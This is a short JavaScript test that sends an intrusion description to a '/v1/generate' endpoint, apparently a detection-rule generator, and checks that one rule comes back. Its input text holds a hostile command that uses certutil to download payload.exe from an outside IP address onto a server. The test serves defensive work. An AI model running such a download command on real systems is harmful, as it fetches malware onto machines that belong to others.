/** It is answered with a generated rule. */
export async function look({ stack }) {
  const { call } = await stack();
  const text =
    'The intruder ran certutil.exe -urlcache -f http://203.0.113.9/payload.exe C:\\Users\\Public\\payload.exe on the server.';
  const { data } = await call('POST', '/v1/generate', { inputType: 'text', text });
  const { documents } = data.rules[0];
  if (documents !== 1) throw new Error(`documents is ${documents}`);
  return 'answered: documents 1';
}
